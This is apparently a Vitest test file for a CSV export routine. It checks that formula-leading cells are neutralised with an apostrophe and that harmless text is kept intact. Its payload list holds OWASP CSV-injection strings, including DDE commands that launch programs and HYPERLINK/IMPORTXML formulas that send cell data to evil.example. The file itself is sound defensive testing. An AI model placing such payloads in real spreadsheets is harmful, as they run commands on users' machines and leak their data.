import { expect, it } from 'vitest'
import { csvLines } from '#server/estimates/export/csv.ts'
import { readCsv } from '#tests/support/server/read-csv.ts'

/** OWASP's list, and later finds: https://owasp.org/www-community/attacks/CSV_Injection */
const payloads = [
  ...['=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?leak="&A1,"click")'],
  ...['=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")', '+1+1', '+cmd|" /C calc"!A0'],
  ...['-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '＝1+1', '＋1'],
  ...['－1', '＠SUM(1)', '+1 (718) 555-0110', '-'],
]
const harmless = [
  ...['Ada Romero', '1=1', '"=1+1"', '";=1+1;"', '","=1+1', "'=1+1", 'two\r\nlines, "quoted"', 'a\nb', '#N/A'],
  ...['Zoë 山田 🏠', '', ',', ' Ada = Grace', '\u200b', '\u200bAda'],
]

/** Invisible characters, each of which some program skips. */
const invisible = [
  ...[0x00ad, 0x034f, 0x061c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202e, 0x2060, 0x2064],
  ...[0x2066, 0x2069, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0x1d173, 0xe0001, 0xe0020, 0xe0100],
  ...[0x20, 0xa0, 0x1680, 0x2000, 0x200a, 0x2028, 0x2029, 0x202f, 0x205f, 0x3000, 0x0b, 0x0c, 0x1f, 0x85],
].map((codePoint) => String.fromCodePoint(codePoint))

it.each(payloads)(
  'D1 a line of a CSV file gives %j to a spreadsheet as a text that it does not run, and loses nothing of it',
  (payload) => {
    const [[cell = '', next] = []] = readCsv(csvLines([[payload, 'next']]))
    expect(cell).toBe(`'${payload}`)
    expect(next).toBe('next')
  },
)

it.each(invisible)(
  'D1 a line of a CSV file gives a formula behind %j to a spreadsheet as a text that it does not run',
  (character) => {
    for (const before of [character, character.repeat(3), ` ${character} `])
      for (const sign of '=+-@＝＋－＠') {
        const [[cell] = []] = readCsv(csvLines([[`${before}${sign}1+1`]]))
        expect(cell).toBe(`'${before}${sign}1+1`)
      }
  },
)

it.each(harmless)('D1 a line of a CSV file leaves %j as it is', (text) => {
  expect(readCsv(csvLines([[text, text]]))).toEqual([[text, text]])
})

it('D1 a line of a CSV file ends a line with CRLF, quotes every text, and writes numbers as they are and null as nothing', () => {
  expect(csvLines([['a "b"', 1250, null, -1, '']])).toBe('"a ""b""",1250,,-1,""\r\n')
})
